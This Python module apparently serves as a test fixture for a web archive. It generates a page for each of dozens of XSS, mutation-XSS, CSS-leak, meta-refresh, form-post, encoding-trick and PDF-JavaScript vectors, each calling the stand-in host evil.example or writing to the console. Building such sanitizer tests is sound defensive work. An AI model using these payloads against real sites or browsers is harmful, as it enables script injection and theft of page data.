"""What archived pages could try, as one table: each vector alone in a page of its own.

Where one acts, it asks ``evil.example`` for a path with its name or says it on the console. ``RUN``
is the script that does both and reaches for the page around it.
"""

from dataclasses import dataclass

# Markup is read better in one piece.
# ruff: noqa: E501

EVIL = "http://evil.example"
RAN = "ran: "
"""What a script says on the console, before its name."""


@dataclass(frozen=True, slots=True)
class Vector:
    """One try."""

    name: str
    body: bytes
    content_type: str = "text/html"
    click: bool = False
    """It waits for a click on the element with the id ``c``."""
    beyond_policy: bool = False
    """No Content-Security-Policy has a word for it: the cleaning alone stops it."""


def _run(name: str) -> str:
    return (
        f"console.log('{RAN}{name}');"
        f"new Image().src='{EVIL}/{name}';try{{top.document.title='taken'}}catch(e){{}}"
    )


# Scripts. RUN: the statements; QRUN: the same for an attribute in double quotes.
_SCRIPTS: dict[str, str] = {
    "script": "<script>RUN</script>",
    "script-src-data": '<script src="data:text/javascript,RUN"></script>',
    "script-module": '<script type="module">RUN</script>',
    "script-unclosed": "<script>RUN//",
    "script-upper-slash": "<SCRIPT/x>RUN</SCRIPT>",
    "script-in-title": "<title></title><script>RUN</script></title>",
    "script-after-comment": "<!--><script>RUN</script>-->",
    "script-after-bang-comment": "<!-- --!><script>RUN</script> -->",
    "script-nul": '<scr\0ipt>RUN</scr\0ipt><img src=x onerror\0=1 onerror="QRUN">',
    "script-cdata": "<![CDATA[><script>RUN</script>]]>",
    "script-in-comment-condition": "<!--[if IE]><p><![endif]--><script>RUN</script>",
    "onerror": '<img src="x:x" onerror="QRUN">',
    "onerror-slashes": '<img/src="x:x"/onerror="QRUN">',
    "onerror-newlines": '<img\nsrc="x:x"\nonerror\n=\n"QRUN">',
    "onerror-backtick": '<img src=`x` onerror="QRUN">',
    "onerror-entities": "<img src='x:x' onerror='&#101;val(`QRUN`)'>",
    "onload-body": '<body onload="QRUN">',
    "onload-second-body": '<p><body onload="QRUN">',
    "onload-svg": '<svg onload="QRUN">',
    "onfocus-autofocus": '<input onfocus="QRUN" autofocus>',
    "ontoggle": '<details open ontoggle="QRUN">x</details>',
    "onstart-marquee": '<marquee onstart="QRUN">x</marquee>',
    "onanimationstart": "<style>@keyframes k{from{top:0}}</style>"
    '<p style="animation:k 1s" onanimationstart="QRUN">x</p>',
    "onerror-video": '<video><source src="x:x" onerror="QRUN"></video>',
    "onerror-audio": '<audio src="x:x" onerror="QRUN">',
    "onscrollend-content": '<p style="content-visibility:auto" '
    'oncontentvisibilityautostatechange="QRUN">x</p>',
    "svg-script": "<svg><script>RUN</script></svg>",
    "svg-script-entities": "<svg><script>&#99;onsole.log('SAID')</script></svg>",
    "svg-foreign-object": '<svg><foreignObject><img src="x:x" onerror="QRUN"></foreignObject></svg>',
    "svg-style-markup": '<svg><style><img src="x:x" onerror="QRUN"></style></svg>',
    "svg-title-markup": '<svg><title><img src="x:x" onerror="QRUN"></title></svg>',
    "svg-desc-markup": '<svg><desc><img src="x:x" onerror="QRUN"></desc></svg>',
    "svg-animate-event": '<svg><animate onbegin="QRUN" attributeName="x" dur="1s"/></svg>',
    "svg-set-event": '<svg><set attributeName="onmouseover" to="1" onbegin="QRUN"/></svg>',
    "svg-use-data": "<svg><use href=\"data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg"
    "'><image href=1 onerror=QRUN /></svg>#x\"/></svg>",
    "math-mglyph": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img '
    'src=1 onerror=QRUN&gt;">',
    "math-annotation": '<math><annotation-xml encoding="text/html"><img src="x:x" onerror="QRUN">'
    "</annotation-xml></math>",
    "math-action": '<math><maction actiontype="statusline#javascript:QRUN">x</maction></math>',
    "noscript-attribute": '<noscript><p title="</noscript><img src=x:x onerror=&quot;1&quot;>">'
    '<img src="x:x" onerror="QRUN"></noscript><img src="x:x" onerror="QRUN">',
    "noscript-mutation": '<noscript><style></noscript><img src=x:x onerror="QRUN"></style>',
    "style-mutation": '<style><!--</style><img src=x:x onerror="QRUN">--></style>',
    "title-mutation": "<title><a title='</title><img src=x:x onerror=\"QRUN\">'></title>",
    "textarea-mutation": "<textarea><a title='</textarea><img src=x:x onerror=\"QRUN\">'></textarea>",
    "xmp-mutation": "<xmp><a title='</xmp><img src=x:x onerror=\"QRUN\">'></xmp>",
    "noembed-mutation": "<noembed><a title='</noembed><img src=x:x onerror=\"QRUN\">'></noembed>",
    "noframes-mutation": "<noframes><a title='</noframes><img src=x:x onerror=\"QRUN\">'></noframes>",
    "iframe-content": "<iframe><a title='</iframe><img src=x:x onerror=\"QRUN\">'></iframe>",
    "plaintext": "<plaintext></plaintext><script>RUN</script>",
    "template": '<template><script>RUN</script></template><img src="x:x" onerror="QRUN">',
    "select-style": '<select><style></select><img src="x:x" onerror="QRUN"></style>',
    "select-textarea": '<select><option><textarea></select><img src="x:x" onerror="QRUN"></textarea>',
    "table-foster": '<table><style></table><img src="x:x" onerror="QRUN"></style></table>',
    "form-nesting": '<form><math><mtext></form><form><mglyph><style></math><img src="x:x" '
    'onerror="QRUN">',
    "svg-p-style": '<svg></p><style><a title="</style><img src=x:x onerror=QRUN>">',
    "math-svg-mix": '<math><mi><svg><mtext><style><img src="x:x" onerror="QRUN"></style></svg></math>',
    "frameset-onload": '<frameset onload="QRUN"><frame src="about:blank"></frameset>',
    "iframe-srcdoc": "<iframe srcdoc=\"<script>console.log('SAID')</script>\"></iframe>",
    "iframe-javascript": "<iframe src=\"javascript:console.log('SAID')\"></iframe>",
    "iframe-data": f"<iframe src=\"data:text/html,<img src='{EVIL}/iframe-data'>\"></iframe>",
    "object-data": f"<object data=\"data:text/html,<img src='{EVIL}/object-data'>\"></object>",
    "embed-data": f"<embed src=\"data:text/html,<img src='{EVIL}/embed-data'>\">",
    "object-svg": '<object type="image/svg+xml" data="data:image/svg+xml,<svg xmlns='
    f"'http://www.w3.org/2000/svg'><image href='{EVIL}/object-svg'/></svg>\"></object>",
    "attribute-breakout": '<p title="&quot;><img src=x:x onerror=1"><a href="x" title=\'"><img '
    'src=x:x onerror="QRUN">\'>x</a><img src="x:x" onerror="QRUN">',
    "gbk-quote": '<p title="\x81"><img src="x:x" onerror="QRUN">',
    "unknown-handler": '<x-y tabindex=1 id=x onfocus="QRUN" autofocus>x</x-y>',
    "popover": '<button popovertarget=x id=c>b</button><p popover id=x onbeforetoggle="QRUN">p</p>',
    "xss-in-xml-stylesheet": "<?xml-stylesheet href='javascript:1'?><img src=x:x onerror=\"QRUN\">",
}
# Links and forms that wait for a click.
_CLICKS: dict[str, str] = {
    "click-javascript": '<a id="c" href="javascript:QRUN">x</a>',
    "click-javascript-mixed": '<a id="c" href="JaVaScRiPt:QRUN">x</a>',
    "click-javascript-white": '<a id="c" href=" &#14; java&#10;script&#9;:QRUN">x</a>',
    "click-javascript-entities": '<a id="c" href="&#x6a;avascript&colon;QRUN">x</a>',
    "click-onclick": '<p id="c" onclick="QRUN">x</p>',
    "click-form": f'<form action="{EVIL}/click-form"><input name="a" value="1">'
    '<button id="c">x</button></form>',
    "click-form-post": f'<form method="post" action="{EVIL}/click-form-post">'
    '<input type="submit" id="c"></form>',
    "click-formaction": f'<form><button id="c" formaction="{EVIL}/click-formaction">x</button></form>',
    "click-form-javascript": '<form action="javascript:QRUN"><button id="c">x</button></form>',
    "click-form-outside": f'<form id="f" action="{EVIL}/click-form-outside"></form>'
    '<button id="c" form="f">x</button>',
    "click-image-input": f'<form action="{EVIL}/click-image-input"><input id="c" type="image" '
    'alt="x"></form>',
    "click-svg-link": '<svg width="20" height="20"><a id="c" href="javascript:QRUN"><rect width="20" '
    'height="20"/></a></svg>',
    "click-area": '<map name="m"><area id="c" shape="default" href="javascript:QRUN"></map>'
    '<img usemap="#m" width="20" height="20" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">',
    "click-ping": f'<a id="c" href="#x" ping="{EVIL}/click-ping">x</a>',
    "click-target-top": '<base target="_top"><a id="c" href="javascript:QRUN">x</a>',
}
# Loads from elsewhere, and leaving the page. NAME: the path that is asked for.
_LOADS: dict[str, str] = {
    "img": '<img src="EVIL/NAME">',
    "img-protocol-relative": '<img src="//evil.example/NAME">',
    "img-backslashes": '<img src="http:\\\\evil.example\\NAME">',
    "img-srcset": '<img srcset="EVIL/NAME 1x">',
    "picture": '<picture><source srcset="EVIL/NAME"><img></picture>',
    "image-element": '<image src="EVIL/NAME">',
    "img-dots": '<img src="http://x/../../../../../../evil?EVIL/NAME"><img src="EVIL/NAME">',
    "input-image": '<input type="image" src="EVIL/NAME">',
    "video-poster": '<video poster="EVIL/NAME"></video>',
    "video-src": '<video src="EVIL/NAME" autoplay muted></video>',
    "audio-src": '<audio src="EVIL/NAME" preload="auto"></audio>',
    "track": '<video src="EVIL/NAME"><track default src="EVIL/NAME"></video>',
    "background": '<table background="EVIL/NAME"><tr><td>x</table>',
    "style-attribute": '<p style="background:url(EVIL/NAME)">x</p>',
    "style-escaped": '<p style="background:\\75\\72\\6c(EVIL/NAME)">x</p>',
    "style-comment": "<p style=\"background:u/**/rl(x) url(/**/'EVIL/NAME')\">x</p>"
    '<p style="background:url(EVIL/NAME)">x</p>',
    "style-variable": "<style>:root{--x:url(EVIL/NAME)}p{background:var(--x)}</style><p>x</p>",
    "style-image-set": "<p style=\"background:image-set('EVIL/NAME' 1x)\">x</p>",
    "style-image-set-variable": "<style>:root{--x:'EVIL/NAME'}"
    "p{background:image-set(var(--x) 1x)}</style><p>x</p>",
    "style-import": '<style>@import "EVIL/NAME";</style>',
    "style-import-url": "<style>@import url(EVIL/NAME) screen;</style>",
    "style-import-escaped": '<style>@\\69mport "EVIL/NAME";</style>',
    "style-font": "<style>@font-face{font-family:f;src:url(EVIL/NAME)}p{font-family:f}</style><p>x",
    "style-cursor": "<style>p{cursor:url(EVIL/NAME),auto}li{list-style:url(EVIL/NAME)}</style><li>x",
    "style-content": "<style>p::before{content:url(EVIL/NAME)}</style><p>x</p>",
    "style-nested": "<style>body{p{&{background:url(EVIL/NAME)}}}</style><p>x</p>",
    "style-supports": "<style>@supports (color:red){p{background:url(EVIL/NAME)}}</style><p>x</p>",
    "style-attribute-selector": "<style>input[value^='s']{background:url(EVIL/NAME)}</style>"
    '<input value="secret">',
    "svg-image": '<svg><image href="EVIL/NAME"/></svg>',
    "svg-image-xlink": '<svg><image xlink:href="EVIL/NAME"/></svg>',
    "svg-feimage": '<svg width="9" height="9"><filter id="f"><feImage href="EVIL/NAME"/></filter>'
    '<rect width="9" height="9" filter="url(#f)"/></svg>',
    "svg-style": "<svg><style>@import url(EVIL/NAME);</style></svg>",
    "link-stylesheet": '<link rel="stylesheet" href="EVIL/NAME">',
    "link-icon": '<link rel="icon" href="EVIL/NAME">',
    "link-preload": '<link rel="preload" as="image" href="EVIL/NAME">',
    "link-prefetch": '<link rel="prefetch" href="EVIL/NAME">',
    "link-modulepreload": '<link rel="modulepreload" href="EVIL/NAME">',
    "link-manifest": '<link rel="manifest" href="EVIL/NAME">',
    "iframe": '<iframe src="EVIL/NAME"></iframe>',
    "frame": '<frameset><frame src="EVIL/NAME"></frameset>',
    "object": '<object data="EVIL/NAME"></object>',
    "embed": '<embed src="EVIL/NAME">',
    "applet": '<applet code="x" codebase="EVIL/NAME"></applet>',
    "portal": '<portal src="EVIL/NAME"></portal>',
    "base-img": '<base href="EVIL/"><img src="NAME">',
    "refresh": '<meta http-equiv="refresh" content="0;url=EVIL/NAME">',
    "refresh-quoted": "<meta http-equiv='refresh' content=\"0; URL='EVIL/NAME'\">",
    "refresh-in-body": '<p><meta http-equiv="REFRESH" content="0,EVIL/NAME">',
    "refresh-in-noscript": '<noscript><meta http-equiv="refresh" content="0;EVIL/NAME"></noscript>',
    "csp-report": '<meta http-equiv="Content-Security-Policy" '
    'content="img-src \'none\'; report-uri EVIL/NAME"><img src="http://x.example/">',
    "dns-preconnect": '<link rel="preconnect" href="EVIL/NAME">',
}
_BEYOND = frozenset({"dns-preconnect", "click-ping", "pdf-script"})

_XHTML = (
    '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><head><title>x</title></head>'
    "<body><script>RUN</script></body></html>"
)
_SVG = (
    '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="QRUN"><script>RUN'
    f'</script><image href="{EVIL}/NAME"/></svg>'
)
_XSLT = (
    '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#s"?><!DOCTYPE d [<!ATTLIST '
    'xsl:stylesheet id ID #REQUIRED>]><d><xsl:stylesheet id="s" version="1.0" '
    'xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/">'
    "<html><script>RUN</script></html></xsl:template></xsl:stylesheet></d>"
)
_PDF = (
    "%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>endobj\n"
    "2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
    "3 0 obj<</Type/Page/MediaBox[0 0 99 99]/Parent 2 0 R>>endobj\n"
    f"4 0 obj<</S/JavaScript/JS(app.alert\\('NAME'\\);app.launchURL\\('{EVIL}/NAME'\\);"
    f"this.submitForm\\('{EVIL}/NAME'\\);)>>endobj\ntrailer<</Root 1 0 R>>"
)
# Bytes and types that make a browser see what the archive did not.
_BYTES: tuple[tuple[str, str, str, str], ...] = (
    ("utf-7", "+ADw-script+AD4-RUN+ADw-/script+AD4-", "ascii", "text/html; charset=utf-7"),
    ("utf-16-unmarked", "<p>x</p><script>RUN</script>", "utf-16-le", "text/html"),
    ("utf-16-marked", "\ufeff<p>x</p><script>RUN</script>", "utf-16-be", "text/html"),
    ("gb18030", "<p>政府信息公开</p><script>RUN</script>", "gb18030", "text/html; charset=utf-8"),
    ("iso-2022", "<p>\x1b$B<a>\x1b(B</p><script>RUN</script>", "latin-1", "text/html"),
    ("sniffed-as-html", "<html><script>RUN</script></html>", "utf-8", "application/unknown"),
    ("plain-sniffed", "<html><script>RUN</script></html>", "utf-8", "text/plain"),
    ("pdf-by-name", "<html><script>RUN</script></html>", "utf-8", "application/pdf"),
    ("mixed-replace", "--x\r\nContent-Type: text/html\r\n\r\n<script>RUN</script>\r\n--x--", "utf-8",
     "multipart/x-mixed-replace; boundary=x"),
    ("xhtml", _XHTML, "utf-8", "application/xhtml+xml"),
    ("xml-stylesheet", _XSLT, "utf-8", "text/xml"),
    ("svg-file", _SVG, "utf-8", "image/svg+xml"),
    ("pdf-script", _PDF, "latin-1", "application/pdf"),
    ("javascript-file", "RUN", "utf-8", "text/javascript"),
    ("two-types", "<script>RUN</script><p>x</p>", "utf-8", "text/plain, text/html"),
)  # fmt: skip


def _filled(name: str, text: str) -> str:
    run = _run(name)
    quoted = run.replace('"', "&quot;")
    text = text.replace("SAID", RAN + name)
    filled = text.replace("QRUN", quoted).replace("RUN", run)
    return filled.replace("EVIL", EVIL).replace("NAME", name)


def vectors() -> list[Vector]:
    """Return the whole table."""
    made = []
    for group in (_SCRIPTS, _CLICKS, _LOADS):
        for name, text in group.items():
            body = f"<!DOCTYPE html><html><body>{_filled(name, text)}"
            if "<frameset" in text:
                body = f"<!DOCTYPE html><html>{_filled(name, text)}"
            made.append(
                Vector(
                    name,
                    body.encode("latin-1"),
                    click=group is _CLICKS,
                    beyond_policy=name in _BEYOND,
                )
            )
    for name, text, encoding, content_type in _BYTES:
        filled = _filled(name, text).encode(encoding)
        made.append(Vector(name, filled, content_type, beyond_policy=name in _BEYOND))
    return made
